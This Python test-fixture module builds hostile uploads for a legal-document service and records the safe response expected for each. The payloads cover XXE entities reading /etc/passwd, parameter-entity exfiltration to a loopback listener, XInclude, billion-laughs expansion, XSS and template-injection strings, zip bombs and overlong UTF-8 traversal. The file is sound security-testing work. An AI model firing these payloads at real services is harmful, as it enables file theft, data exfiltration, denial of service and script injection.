"""Hostile uploads: the payloads of ../shared/attacks and their likes, generated here, each with the answer a safe
service gives (../shared/attacks/README.md is the contract; tests/test_attacks.py sends each down every upload path).

A payload is built for a `Target`: every URL in it points at the loopback port the test listens on, every file it
names is /etc/passwd or a .dtd written into the test's own folder. Payloads are plain bytes: hostile XML cannot be
built with lxml, so the XML ones are written as text, each wrapped in a plausible Akoma Ntoso act so that a service
that only checks the root element still reaches the dangerous code.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import docx
import pytest

from tests.app_fixtures import SHARED
from tests.test_importers_docx import ordinary_docx, rebuilt, with_declared_size, zip_of

AKN_NS = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XSI_NS = "http://www.w3.org/2001/XMLSchema-instance"
PASSWD = "file:///etc/passwd"
PASSWD_MARKER = b"root:x:0:0"
DOCTYPE = "DOCTYPE declarations are not allowed"
PRESCAN_WINDOW = 256 * 1024  # drafting.akn.parse looks for a DOCTYPE in this many bytes before parsing
MIB = 1024 * 1024

# What a safe service does with a payload.
REFUSED = "refused"  # 400 or 413 with problem+json whose detail names the rule
INERT = "inert"  # a valid document carrying hostile text: accepted, and shown as text everywhere
ACCEPTED = "accepted"  # a document with a hint the service must never follow (xsi:schemaLocation): accepted, inert


@dataclass(frozen=True)
class Target:
    """Where a payload may point: the loopback port a test listens on, and a folder for local files."""

    port: int
    folder: Path

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}/{path}"


@dataclass(frozen=True)
class Payload:
    """A hostile upload and the answer it must get.

    `kind` is how the upload paths send it: "akn" (XML), "text" (text/plain), "docx" (Word), or "json": a JSON
    value spliced as it is where a JSON request carries a document (`akn` of /api/adopt, a side of /api/redlines).
    """

    name: str
    kind: str
    build: Callable[[Target], bytes] = field(repr=False)
    outcome: str = REFUSED
    words: str = ""  # in the problem's detail (and the page's error) when refused
    statuses: tuple[int, ...] = (400,)
    # pasted into a form, its bytes are decoded by Werkzeug with replacement characters (a browser only ever sends
    # UTF-8 there): accepted as that text, and inert
    normalised_in_forms: bool = False
    large: bool = False  # megabytes: sent at the service's real upload limit

    @property
    def accepted(self) -> bool:
        return self.outcome in (INERT, ACCEPTED)


# --- the shared payloads -------------------------------------------------------------------------------------------


def aimed(data: bytes, target: Target) -> bytes:
    """Point a shared payload's 127.0.0.1:9 URLs at the test's listener."""
    return data.replace(b"127.0.0.1:9/", f"127.0.0.1:{target.port}/".encode())


def _shared(name: str) -> Callable[[Target], bytes]:
    def build(target: Target) -> bytes:
        path = SHARED / "attacks" / name
        if not path.is_file():
            pytest.skip(f"{path} is not present")
        return aimed(path.read_bytes(), target)

    return build


SHARED_PAYLOADS = [
    Payload("01-billion-laughs.xml", "akn", _shared("01-billion-laughs.xml"), words=DOCTYPE),
    Payload("02-quadratic-blowup.xml", "akn", _shared("02-quadratic-blowup.xml"), words=DOCTYPE),
    Payload("03-xxe-file.xml", "akn", _shared("03-xxe-file.xml"), words=DOCTYPE),
    Payload("04-xxe-http.xml", "akn", _shared("04-xxe-http.xml"), words=DOCTYPE),
    Payload("06-xinclude.xml", "akn", _shared("06-xinclude.xml"), words="XInclude elements are not allowed"),
    Payload("07-deep-nesting.xml", "akn", _shared("07-deep-nesting.xml"), words="nests deeper than 256 levels"),
    Payload("08-external-dtd.xml", "akn", _shared("08-external-dtd.xml"), words=DOCTYPE),
    Payload("09-xss-in-heading.xml", "akn", _shared("09-xss-in-heading.xml"), outcome=INERT),
    Payload("10-zip-bomb.docx", "docx", _shared("10-zip-bomb.docx"), words="limit", statuses=(400, 413)),
    Payload("13-xss-plain.txt", "text", _shared("13-xss-plain.txt"), outcome=INERT),
    Payload("14-text-control-chars.txt", "text", _shared("14-text-control-chars.txt"), words="not valid UTF-8",
            normalised_in_forms=True),
]


# --- Akoma Ntoso wrappers ------------------------------------------------------------------------------------------


def act(body: str = "", *, number: str = "1", prolog: str = "", root_attributes: str = "",
        act_attributes: str = "") -> str:
    """Return a plausible AKN 3.0 act as text, with `body` inside <body> (a section when empty)."""
    work = f"/akn/zz/act/2024/{number}"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        f'<akomaNtoso xmlns="{AKN_NS}"{root_attributes}><act name="act"{act_attributes}><meta>'
        '<identification source="#attacks"><FRBRWork>'
        f'<FRBRthis value="{work}/!main"/><FRBRuri value="{work}"/>'
        '<FRBRdate date="2024-03-01" name="Generation"/><FRBRauthor href="#parliament"/>'
        f'<FRBRcountry value="zz"/><FRBRnumber value="{number}"/></FRBRWork>'
        f'<FRBRExpression><FRBRthis value="{work}/eng@2024-03-01/!main"/><FRBRuri value="{work}/eng@2024-03-01"/>'
        '<FRBRdate date="2024-03-01" name="Generation"/><FRBRauthor href="#parliament"/>'
        '<FRBRlanguage language="eng"/></FRBRExpression>'
        f'<FRBRManifestation><FRBRthis value="{work}/eng@2024-03-01/!main.xml"/>'
        f'<FRBRuri value="{work}/eng@2024-03-01.akn"/><FRBRdate date="2024-03-01" name="Generation"/>'
        '<FRBRauthor href="#attacks"/></FRBRManifestation></identification>'
        '<references source="#attacks">'
        '<TLCOrganization eId="parliament" href="/ontology/organization/zz/parliament" showAs="Parliament"/>'
        '<TLCPerson eId="attacks" href="/ontology/person/zz/attacks" showAs="Attack suite"/></references>'
        "</meta><body>"
        + (body or '<section eId="sec_1"><num>1.</num><heading>Short title</heading>'
                   "<content><p>This Act may be cited as the Test Act.</p></content></section>")
        + "</body></act></akomaNtoso>"
    )


def _xml(text: str) -> bytes:
    return text.encode("utf-8")


def _local_dtd(target: Target) -> bytes:
    """A DOCTYPE naming a .dtd on the server's own disk, which defines an entity reading /etc/passwd."""
    dtd = target.folder / "hostile.dtd"
    dtd.write_text(f'<!ENTITY leak SYSTEM "{PASSWD}">\n'
                   f'<!ENTITY % remote SYSTEM "{target.url("local.dtd")}">\n%remote;\n')
    return _xml(act("<section eId='sec_1'><num>1.</num><content><p>&leak;</p></content></section>",
                    prolog=f'<!DOCTYPE akomaNtoso SYSTEM "{dtd}">'))


def _beyond_prescan(target: Target) -> bytes:
    """A DOCTYPE after a comment longer than the parser's pre-scan window: only the check after parsing sees it."""
    padding = "<!--" + "p" * (PRESCAN_WINDOW + 1024) + "-->"
    doctype = (f'<!DOCTYPE akomaNtoso SYSTEM "{target.url("beyond.dtd")}" '
               f'[<!ENTITY leak SYSTEM "{PASSWD}"><!ENTITY % remote SYSTEM "{target.url("beyond-pe.dtd")}"> %remote;]>')
    return _xml(act("<section eId='sec_1'><num>1.</num><content><p>&leak;</p></content></section>",
                    prolog=padding + doctype))


def _utf16(target: Target) -> bytes:
    text = act("<section eId='sec_1'><num>1.</num><content><p>&leak;</p></content></section>",
               prolog=f'<!DOCTYPE akomaNtoso [<!ENTITY leak SYSTEM "{PASSWD}">]>')
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")


def _in_section(inline: str) -> str:
    return f"<section eId='sec_1'><num>1.</num><heading>Title</heading><content><p>{inline}</p></content></section>"


# Hostile attribute values in an otherwise ordinary act: every URL scheme a browser would run, written the ways
# that slip past a naive "starts with javascript:" check, and attribute values that try to break out of quotes.
XSS_ATTRIBUTES = _in_section(
    "See <ref href=\"javascript:alert('G-href')\">section 2</ref>, "
    "<ref href=\" JaVaScRiPt:alert('G-href-case')\">section 3</ref>, "
    "<ref href=\"java&#x09;script:alert('G-href-tab')\">section 4</ref>, "
    "<ref href=\"&#106;avascript:alert('G-href-entity')\">section 5</ref>, "
    "<ref href=\"vbscript:msgbox('G-href-vbs')\">section 6</ref>, "
    "<ref href=\"data:text/html,&lt;script&gt;alert('G-href-data')&lt;/script&gt;\">section 7</ref> and "
    "<a href=\"javascript:alert('G-a')\" title='&quot; onmouseover=&quot;alert(1)'>the schedule</a> "
    "<img src=\"javascript:alert('G-img')\" alt='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'/> "
    "<span class='x&quot; onerror=&quot;alert(2)' style=\"background:url(javascript:alert('G-style'))\">{{7*7}}</span>"
) + ("<section eId='sec_2&quot; onmouseover=&quot;alert(3)'><num>2.</num><heading>Definitions "
     "&lt;img src=x onerror=alert('G-heading')&gt;</heading><content><p>${7*7} #{7*7}</p></content></section>")


def _dense(unit: str) -> Callable[[Target], bytes]:
    """A document whose body is `unit` repeated to just under the default upload limit of 16 MiB."""

    def build(target: Target) -> bytes:
        wrapper = _xml(act("", number="dense"))
        count = (16 * MIB - len(wrapper) - 1024) // len(unit)
        return _xml(act(unit * count, number="dense"))

    return build


GENERATED_XML = [
    # entities and DTDs
    Payload("parameter-entity-http", "akn", lambda t: _xml(act(prolog=(
        f'<!DOCTYPE akomaNtoso [<!ENTITY % pe SYSTEM "{t.url("pe.dtd")}"> %pe;]>'))), words=DOCTYPE),
    Payload("parameter-entity-file", "akn", lambda t: _xml(act(prolog=(
        f'<!DOCTYPE akomaNtoso [<!ENTITY % pe SYSTEM "{PASSWD}"> %pe;]>'))), words=DOCTYPE),
    Payload("parameter-entity-exfiltration", "akn", lambda t: _xml(act(_in_section("&exfil;"), prolog=(
        f'<!DOCTYPE akomaNtoso [<!ENTITY % file SYSTEM "{PASSWD}">'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{t.url('?d=%file;')}'>\"> %wrap; %send;]>"))),
        words=DOCTYPE),
    Payload("external-dtd-passwd", "akn", lambda t: _xml(act(prolog=f'<!DOCTYPE akomaNtoso SYSTEM "{PASSWD}">')),
            words=DOCTYPE),
    Payload("external-dtd-local-file", "akn", _local_dtd, words=DOCTYPE),
    Payload("doctype-beyond-prescan", "akn", _beyond_prescan, words=DOCTYPE),
    Payload("doctype-in-utf16", "akn", _utf16, words=DOCTYPE),
    Payload("undefined-entity", "akn", lambda t: _xml(act(_in_section("&passwd; &nbsp;"))), words="entity"),
    Payload("xinclude-text-http", "akn", lambda t: _xml(act(_in_section(
        f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='{t.url('xi.txt')}'/>"))),
        words="XInclude elements are not allowed"),
    # hints to fetch something
    Payload("stylesheet-pi-http", "akn", lambda t: _xml(act(
        prolog=f'<?xml-stylesheet type="text/xsl" href="{t.url("render.xsl")}"?>')),
        words="xml-stylesheet processing instructions are not allowed"),
    Payload("stylesheet-pi-passwd", "akn", lambda t: _xml(act(
        prolog=f'<?xml-stylesheet type="text/xsl" href="{PASSWD}"?>')),
        words="xml-stylesheet processing instructions are not allowed"),
    Payload("stylesheet-pi-in-body", "akn", lambda t: _xml(act(_in_section(
        f'Text<?xml-stylesheet href="{t.url("inner.xsl")}"?> more'))),
        words="xml-stylesheet processing instructions are not allowed"),
    # 14 of the 20 real documents in ../shared/corpus/akn carry xsi:schemaLocation: kept, never followed
    Payload("schema-location-passwd", "akn", lambda t: _xml(act(number="schema-passwd", root_attributes=(
        f' xmlns:xsi="{XSI_NS}" xsi:schemaLocation="{AKN_NS} {PASSWD}"'))), outcome=ACCEPTED),
    Payload("schema-location-http", "akn", lambda t: _xml(act(number="schema-http", root_attributes=(
        f' xmlns:xsi="{XSI_NS}" xsi:schemaLocation="{AKN_NS} {t.url("akomantoso30.xsd")}"'
        f' xsi:noNamespaceSchemaLocation="{t.url("none.xsd")}"'))), outcome=ACCEPTED),
    # script in attributes and text of a well-formed act
    Payload("xss-in-attributes", "akn", lambda t: _xml(act(XSS_ATTRIBUTES, number="xss-attributes")), outcome=INERT),
    Payload("svg-root-with-onload", "akn", lambda t: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            words="expected an akomaNtoso root element"),
    Payload("html-root-with-script", "akn", lambda t: b"<html><body><script>alert(1)</script></body></html>",
            words="expected an akomaNtoso root element"),
    # counts and lengths
    Payload("attributes-65", "akn", lambda t: _xml(act(act_attributes="".join(f' a{i}="x"' for i in range(64)))),
            words="attributes; the limit is 64"),
    Payload("attributes-10000", "akn", lambda t: _xml(act(act_attributes="".join(
        f' a{i}="x"' for i in range(10_000)))), words="attributes; the limit is 64"),
    Payload("name-60000-characters", "akn", lambda t: _xml(act(_in_section(f"<{'n' * 60_000}/>"))),
            words="name is longer than"),
    Payload("text-node-12-mb", "akn", lambda t: _xml(act(_in_section("A" * 12_000_000))),
            words="longer than 10,000,000 characters", large=True),
    Payload("attribute-12-mb", "akn", lambda t: _xml(act(act_attributes=f' title="{"A" * 12_000_000}"')),
            words="longer than 10,000,000 characters", large=True),
    Payload("text-node-20-mb", "akn", lambda t: _xml(act(_in_section("A" * 20_000_000))),
            words="limit", statuses=(413,), large=True),
    Payload("attribute-20-mb", "akn", lambda t: _xml(act(act_attributes=f' title="{"A" * 20_000_000}"')),
            words="limit", statuses=(413,), large=True),
    # just under the upload limit as XML; as a JSON string (quotes escaped) some go over it: 413 then
    Payload("empty-elements-16-mib", "akn", _dense("<b/>"), words="start tags and attributes; the limit is",
            statuses=(400, 413), large=True),
    Payload("comments-16-mib", "akn", _dense("<!---->"), words="start tags and attributes; the limit is",
            statuses=(400, 413), large=True),
    Payload("attributes-16-mib", "akn", _dense('<b a="" b="" c="" d="" e="" f="" g="" h=""/>'),
            words="start tags and attributes; the limit is", statuses=(400, 413), large=True),
]


# --- plain text ----------------------------------------------------------------------------------------------------

XSS_TEXT = """Section 1. Short title <script>alert("G-text-script")</script>
This Act may be cited as the <img src=x onerror=alert("G-text-img")> Act, 2024.

Section 2. Definitions </textarea></title></style></noscript><script>alert("G-text-breakout")</script>
"Minister" means the <a href="javascript:alert('G-text-href')">Minister</a> <svg/onload=alert("G-text-svg")>.
<iframe srcdoc="<script>alert('G-text-iframe')</script>"></iframe> <math><mtext><img src=x onerror=alert(1)>
Template markers: {{7*7}} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}
Comment and CDATA breakout: --><!-- ]]> <![CDATA[ x ]]> <?xml-stylesheet href="javascript:alert(1)"?>
"""

GENERATED_TEXT = [
    Payload("xss-in-text", "text", lambda t: XSS_TEXT.encode(), outcome=INERT),
    Payload("text-in-utf16", "text", lambda t: ("Section 1. Short title.\n" * 20).encode("utf-16"),
            words="not valid UTF-8", normalised_in_forms=True),
    Payload("text-overlong-utf8", "text", lambda t: b"Section 1. \xc0\xafetc\xc0\xafpasswd", words="not valid UTF-8",
            normalised_in_forms=True),
]


# --- Word ----------------------------------------------------------------------------------------------------------


def _xss_docx(target: Target) -> bytes:
    """A .docx built by python-docx whose paragraphs carry markup, script and template markers as text."""
    document = docx.Document()
    for line in XSS_TEXT.splitlines():
        if line:
            document.add_paragraph(line)
    document.core_properties.title = '<script>alert("G-docx-title")</script>'
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _word_part(root: str, body: str = "<w:p><w:r><w:t>Section 1. Short title.</w:t></w:r></w:p>", *,
               prolog: str = "") -> bytes:
    inner = f"<w:body>{body}</w:body>" if root == "document" else body
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:{root} xmlns:w="{W_NS}">{inner}</w:{root}>').encode()


def _docx_with(part: str, content: bytes) -> bytes:
    """A harmless .docx (python-docx) with one part replaced, zipped by hand."""
    return rebuilt(ordinary_docx(), replace={part: content})


def _many_entries(target: Target) -> bytes:
    """A .docx with 20,000 tiny entries besides its own."""
    return rebuilt(ordinary_docx(), add={f"word/media/e{index}.bin": b"" for index in range(20_000)})


def _declared_bomb(target: Target) -> bytes:
    """A .docx whose document.xml honestly declares 32 MiB (zeros compress 1000:1)."""
    filler = b"<!--" + b"0" * (32 * MIB) + b"-->"
    return zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": _word_part("document") + filler})


def _lying_bomb(target: Target) -> bytes:
    """A .docx whose document.xml declares 2 KiB and holds 8 MiB: only a bounded read notices."""
    hostile = _word_part("document", "<w:p><w:r><w:t>" + "A" * (8 * MIB) + "</w:t></w:r></w:p>")
    data = zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": hostile})
    return with_declared_size(data, "word/document.xml", 2048)


XXE_FILE = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{PASSWD}">]>'

GENERATED_DOCX = [
    Payload("xss-in-docx", "docx", _xss_docx, outcome=INERT),
    Payload("docx-xxe-file", "docx", lambda t: _docx_with("word/document.xml", _word_part(
        "document", "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", prolog=XXE_FILE)), words=DOCTYPE),
    Payload("docx-xxe-http", "docx", lambda t: _docx_with("word/document.xml", _word_part(
        "document", "<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>",
        prolog=f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{t.url("docx-xxe")}">]>')), words=DOCTYPE),
    Payload("docx-parameter-entity-in-styles", "docx", lambda t: _docx_with("word/styles.xml", _word_part(
        "styles", "", prolog=f'<!DOCTYPE w:styles [<!ENTITY % pe SYSTEM "{t.url("styles.dtd")}"> %pe;]>')),
        words=DOCTYPE),
    Payload("docx-external-dtd-in-numbering", "docx", lambda t: _docx_with("word/numbering.xml", _word_part(
        "numbering", "", prolog=f'<!DOCTYPE w:numbering SYSTEM "{PASSWD}">')), words=DOCTYPE),
    Payload("docx-xinclude", "docx", lambda t: _docx_with("word/document.xml", _word_part("document", (
        f"<w:p><xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{PASSWD}' parse='text'/></w:p>"))),
        words="XInclude elements are not allowed"),
    Payload("docx-stylesheet-pi", "docx", lambda t: _docx_with("word/document.xml", _word_part(
        "document", prolog=f'<?xml-stylesheet type="text/xsl" href="{t.url("docx.xsl")}"?>')),
        words="xml-stylesheet processing instructions are not allowed"),
    Payload("docx-20000-entries", "docx", _many_entries, words="entries; the limit is", statuses=(413,)),
    Payload("docx-declared-bomb", "docx", _declared_bomb, words="the limit is", statuses=(413,)),
    Payload("docx-lying-bomb", "docx", _lying_bomb, words="expands beyond", statuses=(413,)),
]


# --- JSON values ---------------------------------------------------------------------------------------------------

GENERATED_JSON = [
    # \ud800 is valid JSON and decodes to a Python string, but no UTF-8 text (no XML, no database row) can hold it
    Payload("json-lone-surrogate", "json", lambda t: b'"Section 1. Short \\ud800 title.\\udfff"',
            words="lone surrogate"),
    Payload("json-deep-nesting", "json", lambda t: b"[" * 100_000 + b"]" * 100_000, words="nests too deeply"),
]


GENERATED = GENERATED_XML + GENERATED_TEXT + GENERATED_DOCX + GENERATED_JSON
ALL = SHARED_PAYLOADS + GENERATED
BY_NAME = {payload.name: payload for payload in ALL}


def json_value(payload: Payload, data: bytes) -> bytes:
    """Return a payload as the JSON value a client would send: JSON payloads as they are, text as a JSON string
    (bytes that are not UTF-8 go raw between the quotes, as a careless client would send them)."""
    if payload.kind == "json":
        return data
    try:
        return json.dumps(data.decode("utf-8")).encode()
    except UnicodeDecodeError:
        return b'"' + data.replace(b"\\", b"\\\\").replace(b'"', b'\\"').replace(b"\n", b"\\n") + b'"'


def is_zip(data: bytes) -> bool:
    return zipfile.is_zipfile(io.BytesIO(data))
